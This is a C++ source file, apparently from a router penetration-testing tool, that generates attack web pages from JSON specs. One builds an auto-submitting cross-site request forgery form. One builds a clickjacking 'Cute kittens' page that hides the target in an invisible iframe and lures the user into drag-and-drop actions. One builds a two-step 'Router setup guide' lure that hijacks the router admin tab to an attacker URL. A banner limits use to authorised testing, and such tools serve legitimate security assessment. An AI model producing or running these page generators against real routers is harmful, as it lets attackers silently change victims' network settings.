#include "routeraudit/payloadgen.h"

#include "routeraudit/html.h"
#include "routeraudit/url.h"

#include <json.hpp>

#include <cstdint>
#include <cstdio>

namespace routeraudit {

namespace {

constexpr std::string_view kBanner =
    "<!-- router-audit security testing artifact. Use only against devices you own or are "
    "authorised to test. -->\n";

void require_url(std::string_view field, const std::string& value) {
    try {
        parse_url(value);
    } catch (const UrlError& e) {
        throw SpecError(std::string(field) + ": " + e.what());
    }
}

void require_box(std::string_view field, const PixelBox& box) {
    if (box.top < 0 || box.left < 0 || box.width < 0 || box.height < 0) {
        throw SpecError(std::string(field) + ": pixel offsets and sizes must be non-negative");
    }
}

std::string px(int value) { return std::to_string(value) + "px"; }

std::string box_style(const PixelBox& box) {
    return "top:" + px(box.top) + "; left:" + px(box.left) + "; width:" + px(box.width) + "; height:" + px(box.height);
}

std::string document_head(std::string_view title, std::string_view extra_head = {}) {
    std::string out = "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>";
    out += html::escape(title);
    out += "</title>\n";
    out += extra_head;
    out += "</head>\n";
    return out;
}

// Decodes one UTF-8 sequence starting at `i`; throws on malformed input.
std::uint32_t next_code_point(std::string_view text, std::size_t& i) {
    auto byte = [&](std::size_t k) { return static_cast<unsigned char>(text[k]); };
    unsigned char lead = byte(i);
    int extra = lead < 0x80 ? 0 : (lead >> 5) == 0x6 ? 1 : (lead >> 4) == 0xE ? 2 : (lead >> 3) == 0x1E ? 3 : -1;
    if (extra < 0) throw SpecError("value is not valid UTF-8");
    std::uint32_t cp = extra == 0 ? lead : lead & (0x3F >> extra);
    for (int k = 1; k <= extra; ++k) {
        if (i + static_cast<std::size_t>(k) >= text.size() || (byte(i + static_cast<std::size_t>(k)) & 0xC0) != 0x80) {
            throw SpecError("value is not valid UTF-8");
        }
        cp = (cp << 6) | (byte(i + static_cast<std::size_t>(k)) & 0x3F);
    }
    static constexpr std::uint32_t kMinimum[] = {0, 0x80, 0x800, 0x10000};
    if (cp < kMinimum[extra] || cp > 0x10FFFF || (cp >= 0xD800 && cp <= 0xDFFF)) {
        throw SpecError("value is not valid UTF-8");
    }
    i += static_cast<std::size_t>(extra) + 1;
    return cp;
}

void append_u_escape(std::string& out, std::uint32_t unit) {
    char buffer[16];
    std::snprintf(buffer, sizeof(buffer), "\\u%04X", unit & 0xFFFFu);
    out += buffer;
}

const nlohmann::json& member(const nlohmann::json& object, const char* name) {
    auto it = object.find(name);
    if (it == object.end()) throw SpecError(std::string("missing field '") + name + "'");
    return *it;
}

std::string string_member(const nlohmann::json& object, const char* name) {
    const auto& value = member(object, name);
    if (!value.is_string()) throw SpecError(std::string("field '") + name + "' must be a string");
    return value.get<std::string>();
}

int int_member(const nlohmann::json& object, const char* name) {
    const auto& value = member(object, name);
    if (!value.is_number_integer()) throw SpecError(std::string("field '") + name + "' must be an integer");
    return value.get<int>();
}

nlohmann::json parse_object(std::string_view text) {
    nlohmann::json doc;
    try {
        doc = nlohmann::json::parse(text.begin(), text.end());
    } catch (const nlohmann::json::parse_error& e) {
        throw SpecError(std::string("spec is not valid JSON: ") + e.what());
    }
    if (!doc.is_object()) throw SpecError("spec must be a JSON object");
    return doc;
}

PixelBox box_from(const nlohmann::json& node) {
    if (!node.is_object()) throw SpecError("box entries must be objects");
    return {int_member(node, "top"), int_member(node, "left"), int_member(node, "width"), int_member(node, "height")};
}

}  // namespace

std::string js_string_escape(std::string_view utf8) {
    std::string out;
    for (std::size_t i = 0; i < utf8.size();) {
        std::uint32_t cp = next_code_point(utf8, i);
        bool safe = (cp >= 'a' && cp <= 'z') || (cp >= 'A' && cp <= 'Z') || (cp >= '0' && cp <= '9') ||
                    (cp < 0x80 && std::string_view(" .,:/?=#%+@!~*()_-").find(static_cast<char>(cp)) !=
                                      std::string_view::npos);
        if (safe) {
            out += static_cast<char>(cp);
        } else if (cp < 0x10000) {
            append_u_escape(out, cp);
        } else {
            cp -= 0x10000;
            append_u_escape(out, 0xD800 + (cp >> 10));
            append_u_escape(out, 0xDC00 + (cp & 0x3FF));
        }
    }
    return out;
}

std::string gen_csrf_page(const CsrfSpec& spec) {
    require_url("action_url", spec.action_url);
    if (spec.method != "POST" && spec.method != "GET") throw SpecError("method: must be POST or GET");
    for (std::size_t i = 0; i < spec.fields.size(); ++i) {
        if (spec.fields[i].first.empty()) throw SpecError("fields[" + std::to_string(i) + "]: name must not be empty");
    }

    std::string out = document_head("Loading");
    out += "<body onload=\"document.forms[0].submit()\">\n";
    out += kBanner;
    out += "<form action=\"" + html::escape(spec.action_url) + "\" method=\"" + spec.method + "\">\n";
    for (const auto& [name, value] : spec.fields) {
        out += "<input type=\"hidden\" name=\"" + html::escape(name) + "\" value=\"" + html::escape(value) + "\">\n";
    }
    out += "</form>\n</body>\n</html>\n";
    return out;
}

std::string gen_uiredress_page(const RedressSpec& spec) {
    require_url("frame_url", spec.frame_url);
    if (spec.decoy_items.empty()) throw SpecError("decoy_items: at least one decoy is required");
    if (spec.overlay_boxes.empty()) throw SpecError("overlay_boxes: at least one box is required");
    for (std::size_t i = 0; i < spec.overlay_boxes.size(); ++i) {
        require_box("overlay_boxes[" + std::to_string(i) + "]", spec.overlay_boxes[i]);
    }
    require_box("frame", spec.frame_box);
    if (spec.button_overlay.top < 0 || spec.button_overlay.left < 0) {
        throw SpecError("button_overlay: pixel offsets must be non-negative");
    }
    std::string drop = js_string_escape(spec.drop_value);

    std::string style =
        "<style>div, button { position:absolute; z-index:1; border:1px solid; pointer-events:none }\n"
        "iframe { position:absolute; z-index:0; opacity:0; border:none }\n"
        "img[draggable] { cursor:move }</style>\n";
    std::string out = document_head("Cute kittens", style);
    out += "<body>\n";
    out += kBanner;
    out += "<h1>Drag your favourite kitten into a box</h1>\n";
    for (const auto& decoy : spec.decoy_items) {
        out += "<figure><img src=\"" + html::escape(decoy.image_ref) + "\" alt=\"" + html::escape(decoy.label) +
               "\" draggable=\"true\" ondragstart=\"" +
               html::escape("event.dataTransfer.setData('text/plain', '" + drop + "')") + "\"><figcaption>" +
               html::escape(decoy.label) + "</figcaption></figure>\n";
    }
    for (const auto& box : spec.overlay_boxes) {
        out += "<div style=\"" + box_style(box) + "\"></div>\n";
    }
    out += "<button style=\"top:" + px(spec.button_overlay.top) + "; left:" + px(spec.button_overlay.left) + "\">" +
           html::escape(spec.button_overlay.label) + "</button>\n";
    out += "<iframe src=\"" + html::escape(spec.frame_url) + "\" style=\"" + box_style(spec.frame_box) +
           "\"></iframe>\n";
    out += "</body>\n</html>\n";
    return out;
}

TabjackPages gen_tabjack_pages(const TabjackSpec& spec) {
    require_url("admin_url", spec.admin_url);
    require_url("evil_url", spec.evil_url);
    if (spec.window_name.empty()) throw SpecError("window_name: must not be empty");
    if (spec.window_name.front() == '_') {
        throw SpecError("window_name: names starting with '_' are reserved browsing-context keywords");
    }
    std::string name_js = js_string_escape(spec.window_name);
    std::string evil_js = js_string_escape(spec.evil_url);

    TabjackPages pages;
    pages.lure_html = document_head("Router setup guide") + "<body>\n" + std::string(kBanner) +
                      "<p>Step 1: <a href=\"" + html::escape(spec.admin_url) + "\" target=\"" +
                      html::escape(spec.window_name) + "\">open your router settings</a>, then come back.</p>\n" +
                      "</body>\n</html>\n";
    pages.rebind_html = document_head("Router setup guide") + "<body>\n" + std::string(kBanner) +
                        "<p>Step 2: <a href=\"#\" onclick=\"" +
                        html::escape("window.open('" + evil_js + "', '" + name_js + "'); return false;") +
                        "\">continue the guide</a>.</p>\n" + "</body>\n</html>\n";
    return pages;
}

CsrfSpec csrf_spec_from_json(std::string_view json_text) {
    auto doc = parse_object(json_text);
    CsrfSpec spec;
    spec.action_url = string_member(doc, "action_url");
    if (doc.contains("method")) spec.method = string_member(doc, "method");
    if (doc.contains("fields")) {
        const auto& fields = doc["fields"];
        if (!fields.is_array()) throw SpecError("field 'fields' must be an array");
        for (const auto& field : fields) {
            if (field.is_array() && field.size() == 2 && field[0].is_string() && field[1].is_string()) {
                spec.fields.emplace_back(field[0].get<std::string>(), field[1].get<std::string>());
            } else if (field.is_object()) {
                spec.fields.emplace_back(string_member(field, "name"), string_member(field, "value"));
            } else {
                throw SpecError("field 'fields' entries must be [name, value] or {name, value}");
            }
        }
    }
    return spec;
}

RedressSpec redress_spec_from_json(std::string_view json_text) {
    auto doc = parse_object(json_text);
    RedressSpec spec;
    spec.frame_url = string_member(doc, "frame_url");
    spec.drop_value = string_member(doc, "drop_value");
    const auto& decoys = member(doc, "decoy_items");
    if (!decoys.is_array()) throw SpecError("field 'decoy_items' must be an array");
    for (const auto& decoy : decoys) {
        if (!decoy.is_object()) throw SpecError("field 'decoy_items' entries must be objects");
        spec.decoy_items.push_back({string_member(decoy, "label"), string_member(decoy, "image_ref")});
    }
    const auto& boxes = member(doc, "overlay_boxes");
    if (!boxes.is_array()) throw SpecError("field 'overlay_boxes' must be an array");
    for (const auto& box : boxes) spec.overlay_boxes.push_back(box_from(box));
    const auto& button = member(doc, "button_overlay");
    if (!button.is_object()) throw SpecError("field 'button_overlay' must be an object");
    spec.button_overlay = {int_member(button, "top"), int_member(button, "left"), string_member(button, "label")};
    if (doc.contains("frame_box")) spec.frame_box = box_from(doc["frame_box"]);
    return spec;
}

TabjackSpec tabjack_spec_from_json(std::string_view json_text) {
    auto doc = parse_object(json_text);
    return {string_member(doc, "admin_url"), string_member(doc, "window_name"), string_member(doc, "evil_url")};
}

}  // namespace routeraudit
